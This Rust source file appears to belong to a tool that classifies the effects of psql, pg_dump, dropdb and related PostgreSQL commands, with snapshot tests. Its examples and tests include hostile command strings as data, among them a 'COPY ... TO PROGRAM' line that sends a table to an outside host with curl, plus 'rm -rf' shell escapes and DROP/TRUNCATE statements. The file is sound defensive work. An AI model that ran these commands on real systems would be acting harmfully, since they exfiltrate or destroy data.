//! `psql` and the programs that come with PostgreSQL: what they run, dump, restore, create and drop.

mod located;
mod service;

use countersign_model::{Certainty, Resource, Effect, verbs};

use super::Family;
use super::databases::{Given, Options, named, read, run_stdin, tells, unknown_command, whole};
use crate::context::Context;
use crate::invocation::Invocation;
use crate::sql::{DatabasePlace, client};
use crate::word::Word;
use located::located;

pub(super) const FAMILY: Family = Family {
    programs: &[
        "psql", "pgcli", "pg_dump", "pg_dumpall", "pg_restore", "createdb", "dropdb", "createuser", "dropuser", "pg_ctl", "pg_ctlcluster", "vacuumdb", "reindexdb", "clusterdb", "pg_basebackup", "pg_isready", "pg_resetwal", "initdb",
        "pg_createcluster", "pg_dropcluster", "pg_lsclusters", "pg_config", "pgbench", "cockroach",
    ],
    about: "SQL from `-c`, `-f`, a pipe or a here-document, statement by statement, with psql's own \
        commands; and the programs that dump, restore, create and drop. Where that is, the command says, else \
        the service that it names in `pg_service.conf`, else the environment. An interactive session is opaque.",
    examples: &[
        "psql -h db.prod.example -d shop -c 'SELECT count(*) FROM orders'",
        "psql -h db.prod.example -d shop -c 'DROP TABLE users'",
        r#"psql "$DATABASE_URL" -c 'DELETE FROM users WHERE id = 1'"#,
        "psql shop -f schema.sql",
        r#"psql shop -c "\\copy users to 'users.csv'""#,
        r#"psql shop -c "COPY users TO PROGRAM 'curl -d @- https://example.com'""#,
        "psql -h db.prod.example",
        "pg_dump -h db.prod.example -d shop -f dump.sql",
        "pg_restore --clean -h db.prod.example -d shop dump.bin",
        "dropdb -h db.prod.example shop",
        "createuser -h db.prod.example admin",
        "psql --version",
        "psql shop -c 'UPDATE users SET a = 1 WHERE id = 1'",
    ],
    effects,
};

const PSQL: Options = Options {
    long: &["command", "dbname", "file", "host", "port", "username", "output", "set", "variable", "log-file", "field-separator", "record-separator", "pset", "table-attr"],
    short: "cdfhpUovLFRPT",
    attached: "",
};
const DUMP: Options = Options {
    long: &[
        "dbname", "host", "port", "username", "file", "format", "jobs", "compress", "schema", "exclude-schema", "table", "exclude-table", "exclude-table-data", "encoding", "role", "extension", "section", "superuser",
        "lock-wait-timeout", "snapshot", "rows-per-insert", "use-list", "index", "function", "trigger", "database", "globals", "exclude-database", "filter", "pgdata", "label", "wal-method", "checkpoint", "max-rate", "target", "waldir", "tablespace-mapping", "tablespace", "template", "owner", "locale", "connection-limit",
        "maintenance-db", "valid-until", "member", "with-member", "in-role", "parallel", "min-xid-age", "min-mxid-age", "analyze", "timeout",
    ],
    short: "dhpUfFjZnNtTEeSLIPD",
    attached: "",
};
const OTHERS: Options = Options {
    long: DUMP.long,
    short: "dhpUEDOTlcgmjtPnNSv",
    attached: "",
};

fn effects(invocation: &Invocation, context: &mut Context<'_>) {
    match invocation.program.as_str() {
        "psql" | "pgcli" | "cockroach" => psql(invocation, context),
        "pg_dump" | "pg_dumpall" | "pg_basebackup" => dump(invocation, context),
        "pg_restore" => restore(invocation, context),
        "pg_isready" | "pg_lsclusters" | "pg_config" => tells(invocation, context),
        "pg_ctl" | "pg_ctlcluster" | "pg_createcluster" | "initdb" | "pg_resetwal" | "pg_dropcluster" => cluster(invocation, context),
        program => administer(program, invocation, context),
    }
}

fn psql(invocation: &Invocation, context: &mut Context<'_>) {
    let mut given = read(invocation, &PSQL);
    if invocation.program == "cockroach" {
        if given.operands.first().and_then(Word::known) != Some("sql") {
            let place = located(&given, None, invocation, context);
            unknown_command("cockroach", &place, context);
            return;
        }
        given.operands.remove(0);
    }
    if given.is_help() {
        tells(invocation, context);
        return;
    }
    let mut place = located(&given, given.operands.first(), invocation, context);
    for word in given.words(&["o", "output", "L", "log-file"]) {
        match word.text().strip_prefix('|') {
            Some(program) => crate::shell::run_apart(program, crate::shell::Place::Within(context.here), context),
            None => context.write(word),
        }
    }
    if let Some(file) = crate::environment::value(invocation, "PSQLRC") {
        client::run_file_in(&file, &mut place, context);
    }
    if given.has(&["l", "list"]) {
        whole(verbs::DB_READ, &place, "", context);
        return;
    }
    if given.has(&["v", "set", "variable"]) {
        let texts = given.words(&["c", "command"]).any(|word| word.text().contains(':'));
        if texts || given.has(&["f", "file"]) || !given.has(&["c", "command"]) {
            sets(&given, &place, context);
        }
    }
    let mut runs = false;
    for (name, value) in &given.options {
        match (name.as_str(), value) {
            ("c" | "command" | "e" | "execute", Some(word)) => client::run_word_in(word, &mut place, context),
            ("f" | "file", Some(word)) if word.known() == Some("-") => run_stdin(invocation, &place, context),
            ("f" | "file", Some(word)) => client::run_file_in(&word.value, &mut place, context),
            _ => continue,
        }
        runs = true;
    }
    if !runs {
        run_stdin(invocation, &place, context);
    }
}

/// Variables that are put into the SQL: what they say is read as if it stood there alone.
fn sets(given: &Given, place: &DatabasePlace, context: &mut Context<'_>) {
    for word in given.words(&["v", "set", "variable"]) {
        let plain = |value: &str| value.chars().all(|c| c.is_alphanumeric() || "_.:/@%+-, ".contains(c)) && !value.contains("--");
        let harmless = word.known().and_then(|text| text.split_once('=')).is_none_or(|(_, value)| plain(value) && !value.contains(' '));
        if !harmless || word.value.is_unknown() {
            crate::sql::unknown("a variable of psql is put into the text", place, context);
        }
    }
}

fn dump(invocation: &Invocation, context: &mut Context<'_>) {
    let given = read(invocation, &Options { long: DUMP.long, short: "dhpUfFjZnNtTEeSLIPDl", attached: "" });
    if given.is_help() {
        tells(invocation, context);
        return;
    }
    let database = given.word(&["l", "database"]).filter(|_| invocation.program == "pg_dumpall");
    let place = located(&given, database.or(given.operands.first()), invocation, context);
    let names: &[&str] = if invocation.program == "pg_basebackup" { &["D", "pgdata"] } else { &["f", "file"] };
    given.words(names).for_each(|word| context.write(word));
    let tables: Vec<String> = given.words(&["t", "table"]).map(named).collect();
    let only_shapes = given.has(&["s", "schema-only"]) && invocation.program != "pg_basebackup"
        || invocation.program == "pg_dumpall" && given.has(&["g", "globals-only", "r", "roles-only", "tablespaces-only"]);
    let verb = if only_shapes { verbs::DB_READ } else { verbs::DB_EXPORT };
    if tables.is_empty() || invocation.program != "pg_dump" {
        whole(verb.clone(), &place, if only_shapes { "" } else { "it reads the whole database" }, context);
    }
    for table in tables {
        context.push(place.effect(verb.clone(), &table));
    }
    if invocation.program == "pg_dumpall" {
        let store = "postgresql".to_owned();
        let effect = Effect::new(verbs::SECRET_READ, Resource::Secret { store, name: "roles".to_owned() });
        if !given.has(&["no-role-passwords", "databases-only", "schema-only"]) {
            context.push(effect.because("it reads the passwords of roles, hashed"));
        }
    }
}

fn restore(invocation: &Invocation, context: &mut Context<'_>) {
    let given = read(invocation, &DUMP);
    if given.is_help() {
        tells(invocation, context);
        return;
    }
    given.operands.iter().for_each(|word| context.read(word));
    if given.has(&["l", "list"]) || !given.has(&["d", "dbname"]) {
        given.words(&["f", "file"]).for_each(|word| context.write(word));
        tells(invocation, context);
        return;
    }
    let place = located(&given, None, invocation, context);
    if given.has(&["c", "clean", "if-exists"]) {
        whole(verbs::DB_DESTROY, &place, "it drops what the backup holds before it restores it", context);
    } else {
        context.push(place.effect(verbs::DB_WRITE, "*").certain(Certainty::Partial, "what the backup holds is not looked at"));
    }
}

/// The place of a program that works on one database while it is connected to another, which may be a whole address.
fn connected(given: &Given, invocation: &Invocation, context: &Context<'_>) -> DatabasePlace {
    let name = given.operands.first();
    let Some(word) = given.word(&["maintenance-db"]) else {
        return located(given, name, invocation, context);
    };
    let place = located(given, Some(word), invocation, context);
    DatabasePlace { database: name.map(named), ..place }
}

fn administer(program: &str, invocation: &Invocation, context: &mut Context<'_>) {
    let given = read(invocation, &OTHERS);
    if given.is_help() {
        tells(invocation, context);
        return;
    }
    let mut place = connected(&given, invocation, context);
    match program {
        "createdb" => whole(verbs::DB_SCHEMA, &place, "it creates a database", context),
        "dropdb" => whole(verbs::DB_DESTROY, &place, "it drops the whole database", context),
        "createuser" | "dropuser" => {
            place.database = None;
            let role = given.operands.first().map_or_else(|| "*".to_owned(), named);
            context.push(place.effect(verbs::DB_PRIVILEGE, &role));
        }
        "pgbench" if !given.has(&["i", "initialize"]) => {
            context.push(place.effect(verbs::DB_WRITE, "pgbench_*"));
            given.words(&["f", "file"]).for_each(|word| client::run_file(&word.value, &place, context));
        }
        "pgbench" => context.push(place.effect(verbs::DB_DESTROY, "pgbench_*")),
        _ => whole(verbs::DB_WRITE, &place, "it is upkeep that locks or rewrites tables", context),
    }
}

/// Programs that start, stop, make and break a server on this machine.
fn cluster(invocation: &Invocation, context: &mut Context<'_>) {
    let given = read(invocation, &Options { long: DUMP.long, short: "DlomtpUwcSNkP", attached: "" });
    let place = DatabasePlace { host: "localhost".to_owned(), ..DatabasePlace::any("postgresql") };
    let is = |word: &str| given.operands.iter().any(|operand| operand.known() == Some(word));
    match invocation.program.as_str() {
        _ if given.is_help() => tells(invocation, context),
        "pg_ctl" | "pg_ctlcluster" if is("status") => tells(invocation, context),
        "pg_resetwal" | "pg_dropcluster" => whole(verbs::DB_DESTROY, &place, "what the server has not yet written is gone", context),
        "initdb" | "pg_createcluster" => {
            given.words(&["D", "pgdata"]).for_each(|word| context.write(word));
            whole(verbs::DB_SCHEMA, &place, "it makes a new server's data", context);
        }
        _ => whole(verbs::DB_EXECUTE, &place, "it starts, stops or promotes the server", context),
    }
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::{check, check_because, check_with};

    #[test]
    fn sql_from_everywhere() {
        assert_snapshot!(check("psql -h db.prod.example -U app -d shop -Atc 'SELECT count(*) FROM orders'"), @"db.read orders in postgresql://db.prod.example/shop, read");
        assert_snapshot!(check("psql postgres://app:pw@db.prod.example:5432/shop -c 'DROP TABLE users; SELECT 1'"), @"db.destroy users in postgresql://db.prod.example/shop, destroy");
        assert_snapshot!(check("psql \"$DATABASE_URL\" --command='DELETE FROM users'"), @"db.destroy users in postgresql://$DATABASE_URL, destroy");
        assert_snapshot!(check("psql \"host=db.example dbname=shop user=x\" <<< 'TRUNCATE users'"), @"db.destroy users in postgresql://db.example/shop, destroy");
        assert_snapshot!(check("echo 'DROP DATABASE shop' | psql -h $DB_HOST"), @"
        exec.read echo, read
        db.destroy shop in postgresql://$DB_HOST, destroy
        ");
        assert_snapshot!(check("PGHOST=db.example psql shop <<'EOF'\nBEGIN;\nUPDATE users SET a = 1 WHERE id = 2;\n\\! git push origin main\n\\copy orders to 'orders.csv' csv\n\\c other\nSELECT 1;\nEOF"), @"
        git.push main@origin, write
        db.export orders in postgresql://db.example/shop, read
        fs.write /repo/orders.csv, write
        db.write users in postgresql://db.example/shop, write
        db.read * in postgresql://db.example/other, read
        ");
        assert_snapshot!(check_with("psql -f down.sql shop", &[("/repo/down.sql", "-- down\nDROP TABLE a;\n\\i more.sql"), ("/repo/more.sql", "TRUNCATE b;"), ("PGHOST", "db.example")]), @"
        fs.read /repo/down.sql, read
        fs.read /repo/more.sql, read
        db.destroy b in postgresql://db.example/shop, destroy
        db.destroy a in postgresql://db.example/shop, destroy
        ");
        assert_snapshot!(check("psql shop < missing.sql"), @"
        fs.read /repo/missing.sql, read
        db.execute * in postgresql://localhost/shop, execute, opaque
        ");
    }

    #[test]
    fn the_server_of_the_maintenance_database() {
        assert_snapshot!(check("dropdb --maintenance-db=postgres://db.prod.example/postgres shop"), @"db.destroy * in postgresql://db.prod.example/shop, destroy");
        assert_snapshot!(check("dropdb -h localhost --maint 'host=db.prod.example dbname=postgres' shop; createdb --maintenance-db=postgres://db.prod.example shop"), @"
        db.destroy * in postgresql://db.prod.example/shop, destroy
        db.schema * in postgresql://db.prod.example/shop, write
        ");
        assert_snapshot!(check("dropdb --maintenance-db \"$URL\" shop; vacuumdb --all --maintenance-db postgres://db.prod.example/x"), @"
        db.destroy * in postgresql://$URL/shop, destroy
        db.write * in postgresql://db.prod.example, write
        ");
        assert_snapshot!(check("pg_dumpall -l 'host=db.prod.example' -f a.sql"), @"
        fs.write /repo/a.sql, write
        db.export * in postgresql://db.prod.example, read
        secret.read postgresql:roles, read
        ");
        assert_snapshot!(check("dropdb --maintenance-db=postgres shop; createdb -h db.example shop"), @"
        db.destroy * in postgresql://localhost/shop, destroy
        db.schema * in postgresql://db.example/shop, write
        ");
    }

    #[test]
    fn what_is_not_known() {
        assert_snapshot!(check_because("psql -h db.example shop"), @"db.execute * in postgresql://db.example/shop, execute, opaque: an interactive session");
        assert_snapshot!(check_because("psql shop -c \"DELETE FROM $TABLE\""), @"
        db.destroy * in postgresql://localhost/shop, destroy, partial: the statement cannot be parsed
        db.execute * in postgresql://localhost/shop, execute, opaque: a part of the text is not known: a variable of the environment
        ");
        assert_snapshot!(check_because("psql shop -c \"SELECT * FROM users WHERE id = $ID\""), @"db.execute * in postgresql://localhost/shop, execute, opaque: a part of the text is not known: a variable of the environment");
        assert_snapshot!(check_because("cat dump.sql | psql shop"), @"
        fs.read /repo/dump.sql, read: -
        db.execute * in postgresql://localhost/shop, execute, opaque: it runs a file that is not there now
        ");
        assert_snapshot!(check_because("psql -c 'SELECT 1'"), @"db.read * in postgresql://localhost, read: no host is named: it is this machine's own");
    }

    #[test]
    fn reads_and_meta_commands() {
        assert_snapshot!(check("psql --version"), @"exec.read psql, read");
        assert_snapshot!(check("psql -l"), @"db.read * in postgresql://localhost, read");
        assert_snapshot!(check("psql shop -c '\\dt+ public.*' -c '\\d users'"), @"db.read * in postgresql://localhost/shop, read");
        assert_snapshot!(check("psql shop -c '\\x on' -c \"SELECT '\\\\! rm -rf /'\""), @"db.read * in postgresql://localhost/shop, read");
        assert_snapshot!(check("psql shop -c '\\! rm -rf src'"), @"fs.delete /repo/src, destroy");
        assert_snapshot!(check("psql shop -c \"\\copy users from program 'git push origin main'\""), @"
        db.write users in postgresql://localhost/shop, write
        git.push main@origin, write
        ");
        assert_snapshot!(check("psql shop <<'EOF'\nSELECT 'DROP TABLE ' || t FROM x \\gexec\n\\o |git push\n\\echo `rm -rf src`\nEOF"), @"
        db.execute * in postgresql://localhost/shop, execute, opaque
        git.push feature@origin, write
        fs.delete /repo/src, destroy
        db.read x in postgresql://localhost/shop, read
        ");
    }

    #[test]
    fn several_commands_on_a_line() {
        assert_snapshot!(check("psql shop -c '\\x \\! git push origin main'"), @"git.push main@origin, write");
        assert_snapshot!(check("psql shop -c '\\timing \\\\ DROP TABLE a'"), @"db.destroy a in postgresql://localhost/shop, destroy");
        assert_snapshot!(check("psql shop -c 'SELECT 1\\; DROP TABLE a'"), @"db.destroy a in postgresql://localhost/shop, destroy");
        assert_snapshot!(check_with("PSQLRC=x.sql psql shop -c 'SELECT 1'", &[("/repo/x.sql", "\\! git push origin main")]), @"
        fs.read /repo/x.sql, read
        git.push main@origin, write
        db.read * in postgresql://localhost/shop, read
        ");
    }

    #[test]
    fn the_other_programs() {
        assert_snapshot!(check("pg_dump -h db.example shop -t users -f users.sql"), @"
        fs.write /repo/users.sql, write
        db.export users in postgresql://db.example/shop, read
        ");
        assert_snapshot!(check("pg_restore --clean -d shop backup.dump"), @"
        fs.read /repo/backup.dump, read
        db.destroy * in postgresql://localhost/shop, destroy
        ");
        assert_snapshot!(check("pg_restore -l backup.dump"), @"
        fs.read /repo/backup.dump, read
        exec.read pg_restore, read
        ");
        assert_snapshot!(check("dropdb -h db.example --if-exists shop; createdb shop; createuser bob"), @"
        db.destroy * in postgresql://db.example/shop, destroy
        db.schema * in postgresql://localhost/shop, write
        db.privilege bob in postgresql://localhost, write
        ");
        assert_snapshot!(check("pg_isready -h db.example && pg_ctl -D /var/lib/pg stop && vacuumdb --all"), @"
        exec.read pg_isready, read
        db.execute * in postgresql://localhost, execute
        db.write * in postgresql://localhost, write
        ");
    }
}
